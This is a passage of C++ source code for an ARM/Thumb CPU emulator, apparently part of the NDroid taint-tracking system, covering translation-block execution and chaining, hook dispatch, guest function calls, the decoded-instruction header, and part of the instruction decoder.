    tb.branch_epoch = *branch_gate_epoch_;
    tb.branch_to = to;
    tb.branch_quiet = quiet;
  }
  return quiet;
}

u64 Cpu::exec_block(TranslationBlock& tb_entry, u64 budget) {
  TranslationBlock* cur = &tb_entry;
  u64 done = 0;
chain:
  TranslationBlock& tb = *cur;
  // Instructions retired before this block started, for per-block fast-path
  // accounting (gate decisions differ between chained blocks).
  const u64 block_base = done;
  // Hooks are resolved once per block: the gate may declare the whole block
  // hook-free when every registered hook consented to gating.
  bool fire = !insn_hooks_.empty();
  bool gate_skip = false;
  if (fire && block_gate_ &&
      gated_hooks_ == static_cast<int>(insn_hooks_.size())) {
    // Per-block memo, valid while the client's epoch counter stands still
    // (the client bumps it whenever any gate input changes).
    if (block_gate_epoch_ != nullptr && tb.gate_epoch == *block_gate_epoch_) {
      fire = tb.gate_fire;
    } else {
      fire = block_gate_(*this, tb);
      if (block_gate_epoch_ != nullptr) {
        tb.gate_epoch = *block_gate_epoch_;
        tb.gate_fire = fire;
      }
    }
    gate_skip = !fire;
  }

  const std::size_t n = tb.insns.size();

  if (!fire) {
    // Hot replay: no instruction hooks fire, so the only per-instruction
    // obligations are the executor itself. Non-last instructions are
    // provably sequential (any instruction that may write the PC terminates
    // its block at translation time), so PC checks happen once per block;
    // tb.dead can only flip mid-block through this block's own stores.
    const std::size_t last = n - 1;
    // With a fused compare-and-branch tail the final two instructions run
    // as one dispatch after the loop; otherwise only the final one does.
    const std::size_t body = tb.tail != nullptr ? last - 1 : last;
  hot_restart:
    if (budget - done < n) goto careful;  // budget can't cover the block
    ++tb.exec_count;
    if (gate_skip) ++fastpath_blocks_;
    if (!tb.has_stores) {
      for (std::size_t i = 0; i < body; ++i) {
        const TbInsn& ti = tb.insns[i];
        if (ti.fast != nullptr) {
          ti.fast(ti.insn, state_, memory_);
        } else {
          execute(ti.insn, state_, memory_);
        }
      }
    } else {
      for (std::size_t i = 0; i < body; ++i) {
        const TbInsn& ti = tb.insns[i];
        if (ti.fast != nullptr) {
          ti.fast(ti.insn, state_, memory_);
        } else {
          execute(ti.insn, state_, memory_);
        }
        if (tb.dead) {
          // The block overwrote its own upcoming instructions: stop
          // replaying stale code and re-translate on re-entry.
          retired_ += i + 1;
          done += i + 1;
          goto out;
        }
      }
    }
    retired_ += body;
    done += body;
    {
      const TbInsn& ti = tb.insns[last];
      if (tb.tail != nullptr) {
        // CMP + B<cond> pair (never an SVC, never a store) in one call.
        tb.tail(tb.insns[last - 1].insn, ti.insn, state_);
        retired_ += 2;
        done += 2;
      } else {
        if (ti.insn.op == Op::kSvc &&
            condition_passed(effective_cond(ti.insn, state_), state_)) {
          if (!svc_handler_) throw GuestFault("SVC with no kernel attached");
          if (state_.thumb && state_.itstate != 0) advance_itstate(state_);
          state_.set_pc(ti.pc + ti.insn.length);
          ++retired_;
          ++done;
          svc_handler_(*this, ti.insn.imm);
          goto out;
        }
        if (ti.fast != nullptr) {
          ti.fast(ti.insn, state_, memory_);
        } else {
          execute(ti.insn, state_, memory_);
        }
        ++retired_;
        ++done;
      }
      if (state_.pc() != ti.pc + ti.insn.length) {
        const GuestAddr to = state_.pc();
        if (!is_branch_quiet(tb, ti.pc, to)) {
          fire_branch_hooks(ti.pc, to);
          goto out;
        }
        // Quiet self-loop chaining: this iteration ran pure guest
        // computation (no hooks, no SVC), so no analysis state can have
        // changed and the gate decisions above still hold.
        // Self-modification is the one escape hatch (the write watch
        // flips tb.dead synchronously).
        if (to == tb.pc && state_.thumb == tb.thumb && !tb.dead) {
          goto hot_restart;
        }
        // Cross-block chaining: the branch was quiet, so the only work
        // run_tb would do is re-dispatch — and when the target is an
        // already-translated block (front-cache hit under the current
        // cache version, outside the helper window, no live ITSTATE),
        // that dispatch can happen right here without paying the
        // call/return, exception frame, and graveyard checks per
        // transition. Anything else (miss, helper, host return, mid-IT
        // landing) surfaces to run_tb as before. The helper-window check
        // also covers kHostReturnAddr, which lives above the window base.
        if (state_.itstate == 0 && to < kHelperWindowBase &&
            (!has_low_helpers_ || helpers_.count(to) == 0)) {
          const u64 key = TbCache::key(to, state_.thumb);
          TbFrontEntry& fe = tb_front_[static_cast<u32>(
              (key * 0x9E3779B97F4A7C15ull) >> (64 - kTbFrontBits))];
          if (fe.key == key && fe.version == tb_cache_.version()) {
            tb_cache_.count_front_hit();
            if (gate_skip) fastpath_insns_ += done - block_base;
            cur = fe.tb;
            goto chain;
          }
        }
      }
    }
    goto out;
  }

careful:
  // Hooked (or budget-constrained) replay: per-instruction hook dispatch,
  // budget accounting, and self-modification checks.
  ++tb.exec_count;
  if (gate_skip) ++fastpath_blocks_;
  for (std::size_t i = 0; i < n && done < budget; ++i) {
    const TbInsn& ti = tb.insns[i];
    if (fire) {
      for (auto& h : insn_hooks_) h.fn(*this, ti.insn, ti.pc);
    }
    if (ti.insn.op == Op::kSvc &&
        condition_passed(effective_cond(ti.insn, state_), state_)) {
      if (!svc_handler_) throw GuestFault("SVC with no kernel attached");
      if (state_.thumb && state_.itstate != 0) advance_itstate(state_);
      state_.set_pc(ti.pc + ti.insn.length);
      ++retired_;
      ++done;
      svc_handler_(*this, ti.insn.imm);
      break;  // SVC always terminates a block
    }
    if (ti.fast != nullptr) {
      ti.fast(ti.insn, state_, memory_);
    } else {
      execute(ti.insn, state_, memory_);
    }
    ++retired_;
    ++done;
    if (state_.pc() != ti.pc + ti.insn.length) {
      // Taken branch. When every branch hook is gated and the branch gate
      // declares the edge uninteresting, firing them would be a no-op.
      if (!is_branch_quiet(tb, ti.pc, state_.pc())) {
        fire_branch_hooks(ti.pc, state_.pc());
      }
      break;
    }
    // The block may have stored over (or a hook rewritten) its own code:
    // stop replaying stale instructions and re-translate on re-entry.
    if (tb.dead) break;
  }

out:
  if (gate_skip) fastpath_insns_ += done - block_base;
  return done;
}

bool Cpu::run_interpretive(u64 max_steps) {
  for (u64 i = 0; i < max_steps; ++i) {
    if (state_.pc() == kHostReturnAddr) return true;
    step();
  }
  return state_.pc() == kHostReturnAddr;
}

bool Cpu::run_tb(u64 max_steps) {
  u64 done = 0;
  while (done < max_steps) {
    const GuestAddr pc = state_.pc();
    if (pc == kHostReturnAddr) return true;
    if (state_.itstate != 0) {
      // Mid-IT continuation (a block ended inside an IT block, or a jump
      // landed in one): blocks starting here were translated without IT
      // context, so their fused handlers would ignore the live ITSTATE.
      // Step interpretively until the IT block drains (at most 4 steps).
      step();
      ++done;
      continue;
    }
    if (pc >= kHelperWindowBase ||
        (has_low_helpers_ && helpers_.count(pc) != 0)) {
      step();  // helper dispatch (or plain execution in the window)
      ++done;
      continue;
    }
    const u64 key = TbCache::key(pc, state_.thumb);
    TbFrontEntry& fe = tb_front_[static_cast<u32>(
        (key * 0x9E3779B97F4A7C15ull) >> (64 - kTbFrontBits))];
    TranslationBlock* tb;
    if (fe.key == key && fe.version == tb_cache_.version()) {
      tb_cache_.count_front_hit();
      tb = fe.tb;
    } else {
      std::shared_ptr<TranslationBlock> found =
          tb_cache_.lookup(pc, state_.thumb);
      if (found == nullptr) {
        found = translate(pc, state_.thumb);
        if (found == nullptr) {
          step();  // undecodable head instruction: fault via the slow path
          ++done;
          continue;
        }
        tb_cache_.insert(found);
      }
      tb = found.get();  // owned by the cache (or its graveyard) from here
      fe = {key, tb_cache_.version(), tb};
    }
    ++exec_depth_;
    try {
      done += exec_block(*tb, max_steps - done);
    } catch (...) {
      --exec_depth_;
      throw;
    }
    --exec_depth_;
    // Between blocks at top level is a safe point for killed-block cleanup.
    if (exec_depth_ == 0) tb_cache_.drain_graveyard();
  }
  return state_.pc() == kHostReturnAddr;
}

bool Cpu::run_threaded(u64 max_steps) {
  // run_tb's twin for the threaded tier: identical dispatch (host return,
  // mid-IT stepping, helper window, front cache, translate-on-miss), but
  // blocks execute as micro-op streams and quiet control transfers chain
  // through direct links without re-entering this loop.
  u64 done = 0;
  while (done < max_steps) {
    const GuestAddr pc = state_.pc();
    if (pc == kHostReturnAddr) return true;
    if (state_.itstate != 0) {
      step();  // mid-IT continuation (see run_tb)
      ++done;
      continue;
    }
    if (pc >= kHelperWindowBase ||
        (has_low_helpers_ && helpers_.count(pc) != 0)) {
      step();  // helper dispatch (or plain execution in the window)
      ++done;
      continue;
    }
    const u64 key = TbCache::key(pc, state_.thumb);
    TbFrontEntry& fe = tb_front_[static_cast<u32>(
        (key * 0x9E3779B97F4A7C15ull) >> (64 - kTbFrontBits))];
    TranslationBlock* tb;
    if (fe.key == key && fe.version == tb_cache_.version()) {
      tb_cache_.count_front_hit();
      tb = fe.tb;
    } else {
      std::shared_ptr<TranslationBlock> found =
          tb_cache_.lookup(pc, state_.thumb);
      if (found == nullptr) {
        found = translate(pc, state_.thumb);
        if (found == nullptr) {
          step();  // undecodable head instruction: fault via the slow path
          ++done;
          continue;
        }
        tb_cache_.insert(found);
      }
      tb = found.get();  // owned by the cache (or its graveyard) from here
      fe = {key, tb_cache_.version(), tb};
    }
    if (tb->threaded == nullptr) ThreadedRun::emit(*this, *tb);
    ++exec_depth_;
    u64 block_done = 0;
    try {
      block_done = ThreadedRun::exec(*this, *tb->threaded, max_steps - done);
    } catch (...) {
      --exec_depth_;
      throw;
    }
    --exec_depth_;
    done += block_done;
    if (block_done == 0) {
      // The remaining budget can't cover even this block's entry: partial
      // replay through the careful per-instruction path.
      ++exec_depth_;
      try {
        done += exec_block(*tb, max_steps - done);
      } catch (...) {
        --exec_depth_;
        throw;
      }
      --exec_depth_;
    }
    // Between blocks at top level is a safe point for killed-block cleanup.
    if (exec_depth_ == 0) tb_cache_.drain_graveyard();
  }
  return state_.pc() == kHostReturnAddr;
}

bool Cpu::run(u64 max_steps) {
  // Safe point: no translation block is mid-execution in any frame, so
  // blocks killed while executing can finally be destroyed.
  if (exec_depth_ == 0) tb_cache_.drain_graveyard();
  if (!use_tb_cache_) return run_interpretive(max_steps);
  if (!threaded_enabled_) return run_tb(max_steps);
  return jit_enabled_ ? run_jit(max_steps) : run_threaded(max_steps);
}

u32 Cpu::call_function(GuestAddr addr, const std::vector<u32>& args) {
  // Re-entrant: guest code may invoke helpers that call back into guest
  // functions (the JNI call chains rely on this).
  CPUState saved = state_;
  ++call_depth_;
  if (call_depth_ > 64) {
    --call_depth_;
    throw GuestFault("guest call depth exceeded");
  }

  const u32 nreg = std::min<u32>(4, static_cast<u32>(args.size()));
  for (u32 i = 0; i < nreg; ++i) state_.regs[i] = args[i];

  u32 sp = state_.sp();
  if (args.size() > 4) {
    const u32 extra = static_cast<u32>(args.size()) - 4;
    sp -= 4 * extra;
    sp &= ~7u;  // AAPCS stack alignment
    for (u32 i = 0; i < extra; ++i) {
      memory_.write32(sp + 4 * i, args[4 + i]);
    }
  } else {
    sp &= ~7u;
  }
  state_.set_sp(sp);
  state_.set_lr(kHostReturnAddr);
  state_.thumb = (addr & 1) != 0;
  state_.set_pc(addr & ~1u);
  // A host-initiated call is still a control transfer into guest code; make
  // it visible so address-triggered hooks (e.g. NDroid's SourcePolicy
  // application at a native method's first instruction) fire uniformly.
  fire_branch_hooks(saved.pc(), state_.pc());

  if (!run(step_budget_)) {
    --call_depth_;
    state_ = saved;
    throw GuestFault("guest call did not return (step budget exhausted)");
  }

  const u32 result = state_.regs[0];
  --call_depth_;
  // Restore everything but keep the result visible to the caller.
  state_ = saved;
  return result;
}

}  // namespace ndroid::arm
