#include "arm/cpu.h"

#include <algorithm>

namespace ndroid::arm {

int Cpu::add_insn_hook(InsnHook hook) {
  const int id = next_hook_id_++;
  insn_hooks_.emplace_back(id, std::move(hook));
  return id;
}

void Cpu::remove_insn_hook(int id) {
  std::erase_if(insn_hooks_, [&](const auto& p) { return p.first == id; });
}

int Cpu::add_branch_hook(BranchHook hook) {
  const int id = next_hook_id_++;
  branch_hooks_.emplace_back(id, std::move(hook));
  return id;
}

void Cpu::remove_branch_hook(int id) {
  std::erase_if(branch_hooks_, [&](const auto& p) { return p.first == id; });
}

void Cpu::register_helper(GuestAddr addr, Helper helper) {
  helpers_[addr & ~1u] = std::move(helper);
}

GuestAddr Cpu::register_helper_auto(Helper helper) {
  const GuestAddr addr = next_helper_addr_;
  next_helper_addr_ += 4;
  register_helper(addr, std::move(helper));
  return addr;
}

void Cpu::fire_branch_hooks(GuestAddr from, GuestAddr to) {
  for (auto& [id, hook] : branch_hooks_) hook(*this, from, to);
}

const Insn& Cpu::decode_cached(u64 key, u32 word, u16 hw2) {
  const u32 index =
      static_cast<u32>((key * 0x9E3779B97F4A7C15ull) >>
                       (64 - kDecodeCacheBits));
  DecodeEntry& entry = decode_cache_[index];
  if (entry.key != key) {
    entry.insn = (key >> 62) == 2 ? decode_thumb(static_cast<u16>(word), hw2)
                                  : decode_arm(word);
    entry.key = key;
  }
  return entry.insn;
}

void Cpu::step() {
  const GuestAddr pc = state_.pc();

  // Helpers live in the 0xF0000000+ window; skip the hash lookup for
  // ordinary guest code.
  if (pc >= 0xF0000000u) {
    if (auto it = helpers_.find(pc); it != helpers_.end()) {
      ++retired_;
      const GuestAddr ret = state_.lr();
      it->second(*this);
      if (state_.pc() == pc) {
        state_.thumb = (ret & 1) != 0;
        state_.set_pc(ret & ~1u);
        fire_branch_hooks(pc, state_.pc());
      }
      return;
    }
  }
  u64 key;
  u32 word;
  u16 hw2 = 0;
  if (state_.thumb) {
    const u16 hw = memory_.read16(pc);
    hw2 = memory_.read16(pc + 2);
    word = hw;
    key = (static_cast<u64>(hw2) << 16) | hw | (2ull << 62);
  } else {
    word = memory_.read32(pc);
    key = static_cast<u64>(word) | (1ull << 62);
  }
  const Insn& insn = decode_cached(key, word, hw2);

  for (auto& [id, hook] : insn_hooks_) hook(*this, insn, pc);

  if (insn.op == Op::kSvc && condition_passed(insn.cond, state_)) {
    if (!svc_handler_) throw GuestFault("SVC with no kernel attached");
    state_.set_pc(pc + insn.length);
    ++retired_;
    svc_handler_(*this, insn.imm);
    return;
  }

  execute(insn, state_, memory_);
  ++retired_;

  if (state_.pc() != pc + insn.length) fire_branch_hooks(pc, state_.pc());
}

bool Cpu::run(u64 max_steps) {
  for (u64 i = 0; i < max_steps; ++i) {
    if (state_.pc() == kHostReturnAddr) return true;
    step();
  }
  return state_.pc() == kHostReturnAddr;
}

u32 Cpu::call_function(GuestAddr addr, const std::vector<u32>& args) {
  // Re-entrant: guest code may invoke helpers that call back into guest
  // functions (the JNI call chains rely on this).
  CPUState saved = state_;
  ++call_depth_;
  if (call_depth_ > 64) {
    --call_depth_;
    throw GuestFault("guest call depth exceeded");
  }

  const u32 nreg = std::min<u32>(4, static_cast<u32>(args.size()));
  for (u32 i = 0; i < nreg; ++i) state_.regs[i] = args[i];

  u32 sp = state_.sp();
  if (args.size() > 4) {
    const u32 extra = static_cast<u32>(args.size()) - 4;
    sp -= 4 * extra;
    sp &= ~7u;  // AAPCS stack alignment
    for (u32 i = 0; i < extra; ++i) {
      memory_.write32(sp + 4 * i, args[4 + i]);
    }
  } else {
    sp &= ~7u;
  }
  state_.set_sp(sp);
  state_.set_lr(kHostReturnAddr);
  state_.thumb = (addr & 1) != 0;
  state_.set_pc(addr & ~1u);
  // A host-initiated call is still a control transfer into guest code; make
  // it visible so address-triggered hooks (e.g. NDroid's SourcePolicy
  // application at a native method's first instruction) fire uniformly.
  fire_branch_hooks(saved.pc(), state_.pc());

  if (!run(step_budget_)) {
    --call_depth_;
    state_ = saved;
    throw GuestFault("guest call did not return (step budget exhausted)");
  }

  const u32 result = state_.regs[0];
  --call_depth_;
  // Restore everything but keep the result visible to the caller.
  state_ = saved;
  return result;
}

}  // namespace ndroid::arm
