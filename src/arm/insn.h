// Decoded instruction representation shared by the decoder, the executor,
// and NDroid's instruction tracer.
//
// The tracer's taint rules (paper Table V) are keyed off the *shape* of an
// instruction (binary-op / unary / mov / LDR-like / STR-like / LDM / STM),
// so the decoded form keeps operands uniform across ARM and Thumb.
#pragma once

#include <string>

#include "common/types.h"

namespace ndroid::arm {

enum class Cond : u8 {
  kEQ = 0x0,
  kNE = 0x1,
  kCS = 0x2,
  kCC = 0x3,
  kMI = 0x4,
  kPL = 0x5,
  kVS = 0x6,
  kVC = 0x7,
  kHI = 0x8,
  kLS = 0x9,
  kGE = 0xA,
  kLT = 0xB,
  kGT = 0xC,
  kLE = 0xD,
  kAL = 0xE,
};

enum class ShiftType : u8 { kLSL = 0, kLSR = 1, kASR = 2, kROR = 3, kRRX = 4 };

enum class Op : u8 {
  kUndefined,
  // Data processing (ARM opcodes 0x0-0xF).
  kAnd,
  kEor,
  kSub,
  kRsb,
  kAdd,
  kAdc,
  kSbc,
  kRsc,
  kTst,
  kTeq,
  kCmp,
  kCmn,
  kOrr,
  kMov,
  kBic,
  kMvn,
  // Wide immediates / multiply / divide.
  kMovw,
  kMovt,
  kMul,
  kMla,
  kUmull,
  kSmull,
  kSdiv,
  kUdiv,
  kClz,
  // Extension (Thumb SXTB/SXTH/UXTB/UXTH and ARM equivalents).
  kSxtb,
  kSxth,
  kUxtb,
  kUxth,
  // Loads and stores.
  kLdr,
  kLdrb,
  kLdrh,
  kLdrsb,
  kLdrsh,
  kStr,
  kStrb,
  kStrh,
  kLdm,
  kStm,
  // Control flow.
  kB,
  kBl,
  kBx,
  kBlxReg,
  /// Thumb-2 table branches: PC = (pc + 4) + 2 * mem8[Rn + Rm] (TBB) or
  /// 2 * mem16[Rn + (Rm << 1)] (TBH). Rn == PC reads the table inline
  /// after the instruction. Always stays in Thumb state.
  kTbb,
  kTbh,
  // System.
  kSvc,
  kNop,
  /// Thumb IT: `imm` holds the architectural ITSTATE byte
  /// (firstcond << 4 | mask) the instruction installs.
  kIt,
};

/// Instruction "shape" as classified by Table V of the paper.
enum class TaintClass : u8 {
  kNone,       // no taint effect modelled (branches, nop, svc handled apart)
  kBinaryOp3,  // binary-op Rd, Rn, Rm  (or Rd, Rn, #imm)
  kBinaryOp2,  // binary-op Rd, Rm      (Rd = Rd op Rm, Thumb ALU form)
  kUnary,      // unary Rd, Rm
  kMovImm,     // mov Rd, #imm          -> clears t(Rd)
  kMovReg,     // mov Rd, Rm
  kLoad,       // LDR* Rd, [Rn, ...]
  kStore,      // STR* Rd, [Rn, ...]
  kLdm,        // LDM / POP
  kStm,        // STM / PUSH
};

struct Insn {
  Op op = Op::kUndefined;
  Cond cond = Cond::kAL;

  u8 rd = 0;  // destination (Rt for loads/stores, RdLo for long multiply)
  u8 rn = 0;  // first operand / base register (RdHi for long multiply)
  u8 rm = 0;  // second operand register
  u8 rs = 0;  // shift-amount register / multiply accumulator

  u32 imm = 0;          // immediate operand / offset / SVC number
  bool imm_operand = false;  // operand 2 is `imm`, not Rm

  ShiftType shift = ShiftType::kLSL;
  u8 shift_amount = 0;
  bool shift_by_reg = false;

  bool set_flags = false;

  // Load/store addressing.
  bool pre_index = true;
  bool add_offset = true;
  bool writeback = false;
  bool reg_offset = false;  // offset is Rm (shifted) instead of imm

  // LDM/STM.
  u16 reglist = 0;
  bool base_increment = true;  // U bit
  bool before = false;         // P bit

  // Branches.
  i32 branch_offset = 0;
  bool link = false;

  u32 raw = 0;
  u8 length = 4;  // 2 for 16-bit Thumb

  /// Three-operand accumulate forms (MLA) read `rs` as well.
  [[nodiscard]] TaintClass taint_class() const;
};

[[nodiscard]] std::string to_string(Op op);
[[nodiscard]] std::string to_string(Cond cond);
[[nodiscard]] std::string disassemble(const Insn& insn, GuestAddr pc);

}  // namespace ndroid::arm
