#include "arm/decoder.h"

#include "arm/cpu_state.h"

namespace ndroid::arm {

namespace {

constexpr u32 bits(u32 w, u32 hi, u32 lo) {
  return (w >> lo) & ((1u << (hi - lo + 1)) - 1);
}
constexpr bool bit(u32 w, u32 n) { return ((w >> n) & 1u) != 0; }

constexpr u32 ror32(u32 v, u32 n) {
  n &= 31;
  return n == 0 ? v : (v >> n) | (v << (32 - n));
}

constexpr i32 sign_extend(u32 v, u32 sign_bit) {
  const u32 mask = 1u << sign_bit;
  return static_cast<i32>((v ^ mask) - mask);
}

Op dp_opcode(u32 code) {
  switch (code) {
    case 0x0: return Op::kAnd;
    case 0x1: return Op::kEor;
    case 0x2: return Op::kSub;
    case 0x3: return Op::kRsb;
    case 0x4: return Op::kAdd;
    case 0x5: return Op::kAdc;
    case 0x6: return Op::kSbc;
    case 0x7: return Op::kRsc;
    case 0x8: return Op::kTst;
    case 0x9: return Op::kTeq;
    case 0xA: return Op::kCmp;
    case 0xB: return Op::kCmn;
    case 0xC: return Op::kOrr;
    case 0xD: return Op::kMov;
    case 0xE: return Op::kBic;
    case 0xF: return Op::kMvn;
  }
  return Op::kUndefined;
}

Insn decode_arm_data_processing(u32 w, Insn insn) {
  const u32 code = bits(w, 24, 21);
  insn.op = dp_opcode(code);
  insn.set_flags = bit(w, 20);
  insn.rn = static_cast<u8>(bits(w, 19, 16));
  insn.rd = static_cast<u8>(bits(w, 15, 12));
  // TST/TEQ/CMP/CMN without S are MSR/MRS-class instructions we do not model.
  if (code >= 0x8 && code <= 0xB && !insn.set_flags) {
    insn.op = Op::kUndefined;
    return insn;
  }
  if (bit(w, 25)) {
    insn.imm_operand = true;
    insn.imm = ror32(bits(w, 7, 0), 2 * bits(w, 11, 8));
    insn.shift_amount = static_cast<u8>(2 * bits(w, 11, 8));  // for carry-out
  } else {
    insn.rm = static_cast<u8>(bits(w, 3, 0));
    insn.shift = static_cast<ShiftType>(bits(w, 6, 5));
    if (bit(w, 4)) {
      insn.shift_by_reg = true;
      insn.rs = static_cast<u8>(bits(w, 11, 8));
    } else {
      insn.shift_amount = static_cast<u8>(bits(w, 11, 7));
      if (insn.shift_amount == 0) {
        // Special imm-shift encodings: LSR/ASR #0 mean #32; ROR #0 is RRX.
        if (insn.shift == ShiftType::kLSR || insn.shift == ShiftType::kASR) {
          insn.shift_amount = 32;
        } else if (insn.shift == ShiftType::kROR) {
          insn.shift = ShiftType::kRRX;
        }
      }
    }
  }
  return insn;
}

Insn decode_arm_halfword_ls(u32 w, Insn insn) {
  const bool load = bit(w, 20);
  const u32 sh = bits(w, 6, 5);
  if (load) {
    insn.op = sh == 1 ? Op::kLdrh : sh == 2 ? Op::kLdrsb : Op::kLdrsh;
  } else if (sh == 1) {
    insn.op = Op::kStrh;
  } else {
    insn.op = Op::kUndefined;  // LDRD/STRD not modelled
    return insn;
  }
  insn.rn = static_cast<u8>(bits(w, 19, 16));
  insn.rd = static_cast<u8>(bits(w, 15, 12));
  insn.pre_index = bit(w, 24);
  insn.add_offset = bit(w, 23);
  insn.writeback = bit(w, 21) || !insn.pre_index;
  if (bit(w, 22)) {
    insn.imm = (bits(w, 11, 8) << 4) | bits(w, 3, 0);
  } else {
    insn.reg_offset = true;
    insn.rm = static_cast<u8>(bits(w, 3, 0));
  }
  return insn;
}

}  // namespace

Insn decode_arm(u32 w) {
  Insn insn;
  insn.raw = w;
  insn.length = 4;
  const u32 cond = bits(w, 31, 28);
  if (cond == 0xF) {
    insn.op = Op::kUndefined;  // unconditional space not modelled
    return insn;
  }
  insn.cond = static_cast<Cond>(cond);

  const u32 group = bits(w, 27, 25);
  switch (group) {
    case 0b000: {
      // Miscellaneous encodings carved out of the data-processing space.
      if ((w & 0x0FFFFFF0u) == 0x012FFF10u) {
        insn.op = Op::kBx;
        insn.rm = static_cast<u8>(bits(w, 3, 0));
        return insn;
      }
      if ((w & 0x0FFFFFF0u) == 0x012FFF30u) {
        insn.op = Op::kBlxReg;
        insn.link = true;
        insn.rm = static_cast<u8>(bits(w, 3, 0));
        return insn;
      }
      if ((w & 0x0FFF0FF0u) == 0x016F0F10u) {
        insn.op = Op::kClz;
        insn.rd = static_cast<u8>(bits(w, 15, 12));
        insn.rm = static_cast<u8>(bits(w, 3, 0));
        return insn;
      }
      if ((w & 0x0FC000F0u) == 0x00000090u) {
        insn.op = bit(w, 21) ? Op::kMla : Op::kMul;
        insn.set_flags = bit(w, 20);
        insn.rd = static_cast<u8>(bits(w, 19, 16));
        insn.rs = static_cast<u8>(bits(w, 15, 12));  // accumulator (MLA)
        insn.rn = static_cast<u8>(bits(w, 11, 8));
        insn.rm = static_cast<u8>(bits(w, 3, 0));
        return insn;
      }
      if ((w & 0x0F8000F0u) == 0x00800090u) {
        const u32 op = bits(w, 23, 21);
        if (op == 0b100) {
          insn.op = Op::kUmull;
        } else if (op == 0b110) {
          insn.op = Op::kSmull;
        } else {
          insn.op = Op::kUndefined;  // UMLAL/SMLAL not modelled
          return insn;
        }
        insn.set_flags = bit(w, 20);
        insn.rn = static_cast<u8>(bits(w, 19, 16));  // RdHi
        insn.rd = static_cast<u8>(bits(w, 15, 12));  // RdLo
        insn.rs = static_cast<u8>(bits(w, 11, 8));
        insn.rm = static_cast<u8>(bits(w, 3, 0));
        return insn;
      }
      if ((w & 0x0E000090u) == 0x00000090u && bits(w, 6, 5) != 0) {
        return decode_arm_halfword_ls(w, insn);
      }
      if (bit(w, 4) && bit(w, 7)) {
        insn.op = Op::kUndefined;
        return insn;
      }
      return decode_arm_data_processing(w, insn);
    }
    case 0b001: {
      if ((w & 0x0FF00000u) == 0x03000000u ||
          (w & 0x0FF00000u) == 0x03400000u) {
        insn.op = (w & 0x00400000u) ? Op::kMovt : Op::kMovw;
        insn.rd = static_cast<u8>(bits(w, 15, 12));
        insn.imm = (bits(w, 19, 16) << 12) | bits(w, 11, 0);
        insn.imm_operand = true;
        return insn;
      }
      return decode_arm_data_processing(w, insn);
    }
    case 0b010:
    case 0b011: {
      if (group == 0b011) {
        if ((w & 0x0FF0F0F0u) == 0x0710F010u ||
            (w & 0x0FF0F0F0u) == 0x0730F010u) {
          insn.op = (w & 0x00200000u) ? Op::kUdiv : Op::kSdiv;
          // Encoding order is Rd, Rm(divisor), Rn(dividend); the executor
          // computes Rd = Rn / Rm.
          insn.rd = static_cast<u8>(bits(w, 19, 16));
          insn.rm = static_cast<u8>(bits(w, 11, 8));
          insn.rn = static_cast<u8>(bits(w, 3, 0));
          return insn;
        }
        // Media-space sign/zero extension (rotation 0 form).
        if ((w & 0x0FFF03F0u) == 0x06AF0070u ||
            (w & 0x0FFF03F0u) == 0x06BF0070u ||
            (w & 0x0FFF03F0u) == 0x06EF0070u ||
            (w & 0x0FFF03F0u) == 0x06FF0070u) {
          switch (bits(w, 22, 20)) {
            case 0b010: insn.op = Op::kSxtb; break;
            case 0b011: insn.op = Op::kSxth; break;
            case 0b110: insn.op = Op::kUxtb; break;
            default: insn.op = Op::kUxth; break;
          }
          insn.rd = static_cast<u8>(bits(w, 15, 12));
          insn.rm = static_cast<u8>(bits(w, 3, 0));
          return insn;
        }
        if (bit(w, 4)) {
          insn.op = Op::kUndefined;  // other media instructions not modelled
          return insn;
        }
      }
      const bool load = bit(w, 20);
      const bool byte = bit(w, 22);
      insn.op = load ? (byte ? Op::kLdrb : Op::kLdr)
                     : (byte ? Op::kStrb : Op::kStr);
      insn.rn = static_cast<u8>(bits(w, 19, 16));
      insn.rd = static_cast<u8>(bits(w, 15, 12));
      insn.pre_index = bit(w, 24);
      insn.add_offset = bit(w, 23);
      insn.writeback = bit(w, 21) || !insn.pre_index;
      if (group == 0b011) {
        insn.reg_offset = true;
        insn.rm = static_cast<u8>(bits(w, 3, 0));
        insn.shift = static_cast<ShiftType>(bits(w, 6, 5));
        insn.shift_amount = static_cast<u8>(bits(w, 11, 7));
        if (insn.shift_amount == 0 &&
            (insn.shift == ShiftType::kLSR || insn.shift == ShiftType::kASR)) {
          insn.shift_amount = 32;
        }
      } else {
        insn.imm = bits(w, 11, 0);
      }
      return insn;
    }
    case 0b100: {
      insn.op = bit(w, 20) ? Op::kLdm : Op::kStm;
      insn.rn = static_cast<u8>(bits(w, 19, 16));
      insn.before = bit(w, 24);
      insn.base_increment = bit(w, 23);
      insn.writeback = bit(w, 21);
      insn.reglist = static_cast<u16>(bits(w, 15, 0));
      if (bit(w, 22)) insn.op = Op::kUndefined;  // user-bank forms
      return insn;
    }
    case 0b101: {
      insn.op = bit(w, 24) ? Op::kBl : Op::kB;
      insn.link = bit(w, 24);
      insn.branch_offset = sign_extend(bits(w, 23, 0), 23) * 4;
      return insn;
    }
    case 0b111: {
      if (bit(w, 24)) {
        insn.op = Op::kSvc;
        insn.imm = bits(w, 23, 0);
        return insn;
      }
      insn.op = Op::kUndefined;
      return insn;
    }
    default:
      insn.op = Op::kUndefined;
      return insn;
  }
}

Insn decode_thumb(u16 hw, u16 hw2) {
  Insn insn;
  insn.raw = hw;
  insn.length = 2;
  insn.set_flags = true;  // most Thumb-16 data ops set flags
  const u32 w = hw;

  const u32 top5 = bits(w, 15, 11);
  switch (top5) {
    case 0b00000:
    case 0b00001:
    case 0b00010: {
      // Shift by immediate: LSLS/LSRS/ASRS Rd, Rm, #imm5.
      insn.op = Op::kMov;
      insn.rd = static_cast<u8>(bits(w, 2, 0));
      insn.rm = static_cast<u8>(bits(w, 5, 3));
      insn.shift = static_cast<ShiftType>(top5);
      insn.shift_amount = static_cast<u8>(bits(w, 10, 6));
      if (insn.shift_amount == 0 && insn.shift != ShiftType::kLSL) {
        insn.shift_amount = 32;
      }
      return insn;
    }
    case 0b00011: {
      insn.op = bit(w, 9) ? Op::kSub : Op::kAdd;
      insn.rd = static_cast<u8>(bits(w, 2, 0));
      insn.rn = static_cast<u8>(bits(w, 5, 3));
      if (bit(w, 10)) {
        insn.imm_operand = true;
        insn.imm = bits(w, 8, 6);
      } else {
        insn.rm = static_cast<u8>(bits(w, 8, 6));
      }
      return insn;
    }
    case 0b00100:
      insn.op = Op::kMov;
      insn.imm_operand = true;
      insn.rd = static_cast<u8>(bits(w, 10, 8));
      insn.imm = bits(w, 7, 0);
      return insn;
    case 0b00101:
      insn.op = Op::kCmp;
      insn.imm_operand = true;
      insn.rn = static_cast<u8>(bits(w, 10, 8));
